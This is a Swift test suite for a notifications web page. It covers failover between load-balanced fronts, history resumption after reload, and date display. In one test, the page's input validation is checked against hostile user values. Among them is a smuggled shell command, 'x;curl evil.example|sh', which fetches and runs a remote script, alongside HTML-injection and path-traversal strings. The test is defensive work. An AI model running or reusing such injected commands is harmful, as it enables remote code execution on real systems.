import Testing

/// The notifications as their reader sees them, while fronts come and go.
@Suite("Pages: notifications")
struct NotificationsPageTests {
    private static let texts = "[...document.querySelectorAll('#log .message')].map(e => e.lastChild.data)"

    @Test("A front is killed while messages are sent: the page goes on at the other, with all of them, once, in order")
    func frontKilled() async throws {
        try await withFronts(2) { fronts in
            let balancer = try await LoadBalancer.start(frontPorts: fronts.fronts.map(\.port))
            try await eventually("HAProxy sees a ready front") { try await balancer.get("/readyz").status == 200 }
            try await withBrowser { browser in
                let page = try await browser.open(balancer.url + "/notifications/?user=ann")
                try await page.waitFor(elementID: "state", toRead: "connected")
                try await send("1", fronts)
                try await page.waitFor(Self.texts, equals: #"["1"]"#)
                try await send("2", fronts)
                try await page.waitFor(Self.texts, equals: #"["1","2"]"#)
                let index = try await fronts.metric("muster_connections", of: 0) == 1 ? 0 : 1
                fronts[index].kill9()
                for number in 3...7 { try await send("\(number)", fronts) }
                try await page.waitFor(Self.texts, equals: #"["1","2","3","4","5","6","7"]"#, timeout: .seconds(60))
                #expect(try await page.evaluate("document.querySelectorAll('#log .gap').length") == "0")
                try await page.keepPicture("notifications")

                // A page that is loaded anew goes on after what it has seen.
                let address = try await page.evaluate("location.href")
                try await page.navigate(to: "about:blank")
                try await send("8", fronts)
                try await page.navigate(to: address)
                try await page.waitFor(Self.texts, equals: #"["8"]"#)

                // Its history lost, the page says so.
                try await page.navigate(to: "about:blank")
                _ = try await fronts.redis.cli("flushall")
                try await send("9", fronts)
                try await page.navigate(to: address)
                try await page.waitFor(Self.texts, equals: #"["9"]"#)
                try await page.waitFor("document.querySelectorAll('#log .gap').length", equals: "1")
            }
            await balancer.stop()
        }
    }

    @Test("The page tells how to send to a user whose name may be one; any other is refused, and shown as text")
    func examples() async throws {
        let front = try await MusterFront.start()
        try await withBrowser { browser in
            let page = try await browser.open(front.url + "/notifications/")
            #expect(try await page.evaluate("document.getElementById('how').hidden") == "true")
            try await page.enter("ann", into: "user")
            try await page.waitFor("location.search", equals: "?user=ann")
            try await page.waitFor(
                elementID: "command",
                toRead: #"muster send message.ann '{"type": "websocket.send", "text": "hello"}'"#
            )
            // What somebody else may have put into a link, too: none of it becomes part of a command.
            let long = String(repeating: "x", count: 92)
            for user in ["%3Cb%3Ex%3C/b%3E", "x;curl%20evil.example|sh;", "%2E", "..", long] {
                try await page.navigate(to: front.url + "/notifications/?user=\(user)")
                let problem = "document.querySelector('#log .error')?.textContent.slice(0, 32)"
                try await page.waitFor(problem, equals: "No user's name: 1 to 91 of these")
                #expect(try await page.evaluate("document.getElementById('how').hidden") == "true")
                #expect(try await page.evaluate("document.getElementById('command').textContent") == "")
                #expect(try await page.evaluate("document.querySelectorAll('main b').length") == "0")
                #expect(try await page.evaluate("document.querySelector('form').checkValidity()") == "false")
                #expect(try await page.evaluate("document.getElementById('state').dataset.state") == "disconnected")
            }
        }
        await front.stop()
    }

    @Test("A message's time has its date when that is not today")
    func dates() async throws {
        let front = try await MusterFront.start()
        try await withBrowser { browser in
            let page = try await browser.open(front.url + "/notifications/")
            let texts = try await page.evaluate(
                """
                import("/assets/pages.js").then(({ timeElement }) => {
                  const today = new Date();
                  today.setHours(14, 3);
                  const earlier = new Date(today);
                  earlier.setDate(today.getDate() - 1);
                  return [today, earlier, new Date(2020, 0, 2, 14, 3)].map((date) => {
                    const { textContent } = timeElement(date);
                    const day = date.toLocaleDateString("en", { month: "short", day: "numeric" });
                    return [textContent.includes("03"), textContent.includes(day), textContent.includes("2020")];
                  });
                })
                """
            )
            #expect(texts == "[[true,false,false],[true,true,false],[true,true,true]]")
        }
        await front.stop()
    }

    private func send(_ text: String, _ fronts: Fronts) async throws {
        let json = #"{"type": "websocket.send", "text": "\#(text)"}"#
        let result = try await muster("send", "message.ann", json, on: fronts.redis)
        #expect(result.status.description == "exit code 0", "\(result)")
    }
}
